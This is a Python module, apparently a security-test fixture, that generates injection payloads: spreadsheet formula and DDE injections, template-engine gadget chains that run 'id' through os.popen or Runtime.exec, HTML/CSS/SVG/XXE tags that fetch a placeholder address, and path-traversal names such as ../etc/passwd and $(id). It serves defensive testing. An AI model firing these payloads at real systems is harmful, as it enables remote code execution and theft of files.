"""Texts that try to be more than texts: formulas, templates, tags, style sheets, addresses, paths.

Each function gives the same list every time. In those that reach for something, `{address}` stands for it.
"""

from collections.abc import Sequence
from itertools import product

# What a template engine would compute: the product is a number that no report has.
PRODUCT = "1787569"

_BODIES = (
    "1337*1337",
    "''.__class__.__mro__[1].__subclasses__()",
    "self._TemplateReference__context",
    "cycler.__init__.__globals__.os.popen('id').read()",
    "lipsum.__globals__['os'].system('id')",
    "config.items()",
    "request.application.__globals__",
    "namespace.__init__.__globals__",
    "joiner.__init__.__builtins__.__import__('os')",
    "().__class__.__base__.__subclasses__()",
    "x.__init__.__globals__",
    "draw.func.__globals__",
    "style.__class__",
    "range(999999999)|list",
    "'%1000000000s'|format('x')",
    "dict.fromkeys(range(99999999))",
    '"\\x5f\\x5fclass\\x5f\\x5f"',
    "''|attr('__class__')",
    "running.__class__",
    "url_for.__globals__",
    "get_flashed_messages.__globals__",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "7*'7'",
    "undefined.x.y",
    "loop.__class__",
)
_SYNTAXES = (
    "{{%s}}",
    "{{-%s-}}",
    "{%% if %s %%}x{%% endif %%}",
    "{%% set x = %s %%}{{x}}",
    "{%% for i in [%s] %%}{{i}}{%% endfor %%}",
    "{#%s#}{{%s}}",
    "${%s}",
    "#{%s}",
    "<%%= %s %%>",
    "{%% raw %%}{{%s}}",
    "{%% endblock %%}{{%s}}",
    "{{'}}'}}{{%s}}",
)
_TAGS = (
    '<img src="{address}">',
    "<img src={address} onerror=alert(1)>",
    '<link rel=stylesheet href="{address}">',
    '<link rel=attachment href="{address}">',
    '<link rel="icon" href="{address}">',
    '<link rel="import" href="{address}">',
    '<link rel="preload" as="font" href="{address}">',
    '<a rel=attachment href="{address}">x</a>',
    '<a href="{address}" ping="{address}">x</a>',
    '<object data="{address}"></object>',
    '<object type="image/svg+xml" data="{address}"></object>',
    '<embed src="{address}">',
    '<iframe src="{address}"></iframe>',
    '<script src="{address}"></script>',
    '<script>fetch("{address}")</script>',
    '<video src="{address}" poster="{address}"></video>',
    '<audio src="{address}"></audio>',
    '<source srcset="{address}">',
    '<picture><source srcset="{address} 2x"><img></picture>',
    '<img srcset="{address} 1x">',
    '<input type=image src="{address}">',
    '<body background="{address}">',
    '<table background="{address}"><tr><td background="{address}">x</table>',
    '<meta http-equiv=refresh content="0;url={address}">',
    '<base href="{address}"><img src="x.png">',
    '<form action="{address}"><button>x</button></form>',
    '<frameset><frame src="{address}"></frameset>',
    '<svg><image href="{address}" width="9" height="9"/></svg>',
    '<svg><image xlink:href="{address}" width="9" height="9"/></svg>',
    '<svg><use href="{address}#x"/></svg>',
    '<svg><script href="{address}"/></svg>',
    '<svg><foreignObject><img src="{address}"></foreignObject></svg>',
    '<svg><feImage href="{address}"/></svg>',
    '<svg><style>@import url("{address}");</style></svg>',
    '<svg><a href="{address}"><text>x</text></a></svg>',
    '<svg><rect fill="url({address}#p)" width="9" height="9"/></svg>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "{address}">]><p>&e;</p>',
    '<?xml-stylesheet href="{address}"?>',
    '<math><maction actiontype="statusline" href="{address}">x</maction></math>',
    '<p style="background:url({address})">x</p>',
    "<p style=\"background:u\\72l('{address}')\">x</p>",
    '<p style="list-style-image:url({address});display:list-item">x</p>',
    '<p style="border-image:url({address}) 1">x</p>',
    '<p style="content:url({address})">x</p>',
    '<p style="cursor:url({address}),auto">x</p>',
    '<p style="mask-image:url({address})">x</p>',
    '<p style="filter:url({address}#f)">x</p>',
    '<p style="shape-outside:url({address})">x</p>',
    "<p style=\"background:image-set('{address}' 1x)\">x</p>",
    '<p style="background:-webkit-image-set(url({address}) 1x)">x</p>',
    '<style>@import "{address}";</style>',
    "<style>@import url({address}) print;</style>",
    '<style>@import url("{address}") layer(x);</style>',
    '<style>p {{ background: url("{address}") }}</style>',
    '<style>@font-face {{ font-family: x; src: url("{address}") }} p {{ font-family: x }}</style>',
    '<style>@font-face {{ font-family: y; src: local("x"), url({address}) format("woff2") }}</style>',
    '<style>p::before {{ content: url("{address}") }}</style>',
    '<style>p::marker {{ content: url("{address}") }}</style>',
    '<style>@page {{ background: url("{address}") }}</style>',
    '<style>@page {{ @top-left {{ content: url("{address}") }} }}</style>',
    '<style>@namespace url("{address}");</style>',
    '<style>@color-profile x {{ src: url("{address}") }}</style>',
    '<style>:root {{ --x: url("{address}") }} p {{ background: var(--x) }}</style>',
    '<style>p {{ background: attr(data-x url) }}</style><p data-x="{address}">x</p>',
    '<style>@media print {{ p {{ background: url("{address}") }} }}</style>',
    '<style>@supports (display:block) {{ @import "{address}"; }}</style>',
)
_BREAKS = (
    "</style>",
    "</title>",
    '">',
    "'>",
    "-->",
    "]]>",
    "</script>",
    "</svg>",
    "\\3c/style>",
    "}}",
)


def formula_payloads() -> Sequence[str]:
    """Return texts that a spreadsheet would compute, or would where it splits a file at another sign."""
    bodies = (
        "1+1",
        "cmd|' /C calc'!A0",
        'HYPERLINK("http://127.0.0.1:9/x","y")',
        "SUM(A1:A2)",
        'WEBSERVICE("http://127.0.0.1:9/x")',
        'DDE("cmd";"/C calc";"x")',
        "A1",
    )
    starts = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
    plain = [start + body for start, body in product(starts, bodies)]
    before = ("\t", "\r", "\n", " ", "  ", "\u00a0", '"', '""', "'", "''", "a;", "a\t", "a|", "a\n")
    behind = [f"{start}=1+1" for start in before] + ['a;"=1+1"', "a; =1+1", "a;;=1+1", "x;'=1+1"]
    return [*plain, *behind, "{=1+1}", "{=SUM(1)}", "=-1", "-1-1", "%=1", "a;@SUM(1)", "a|+1+1"]


def template_vectors() -> Sequence[str]:
    """Return texts in the syntax of template engines; computed, the first of each would show `PRODUCT`."""
    return [
        syntax % ((body,) * syntax.replace("%%", "").count("%s"))
        for body, syntax in product(_BODIES, _SYNTAXES)
    ]


def fetch_vectors() -> Sequence[str]:
    """Return documents that ask for `{address}`, by tag, style sheet or drawing."""
    broken = [f"{start}{_TAGS[0]}" for start in _BREAKS]
    schemes = [f'<img src="{scheme}{{address}}">' for scheme in ("view-source:", "jar:", "feed:")]
    inner = "<svg xmlns='http://www.w3.org/2000/svg'><image href='{address}'/></svg>"
    data = [
        f'<img src="data:image/svg+xml,{inner}">',
        '<style>@import "data:text/css,@import url({address});";</style>',
    ]
    return [text.replace("{{", "{").replace("}}", "}") for text in (*_TAGS, *data)] + [
        *broken,
        *schemes,
    ]


def path_vectors() -> Sequence[str]:
    """Return names that lead out of a folder, or to what no file may be, where they are taken for paths."""
    tops = ("../", "..\\", "....//", "..%2f", "%2e%2e/", "..\u2215", "\uff0e\uff0e/", "./../", "/")
    ends = ("etc/passwd", "x.pdf", "canary.txt", ".", "")
    steps = [top * count + end for top, count, end in product(tops, (1, 4), ends)]
    named = [
        "C:\\Windows\\x", "\\\\127.0.0.1\\share\\x", "file:///etc/passwd", "//127.0.0.1/x", "~/x",
        "$HOME/x", "%TEMP%/x", "CON", "NUL", "COM1.pdf", "a:b", "x.", "x ", "-o", "--force", "|id",
        "`id`", "$(id)", "a/b", "a\\b", "*", "?", "<x>", "x\u202efdp.exe",
    ]  # fmt: skip
    return [*dict.fromkeys([*steps, *named])]
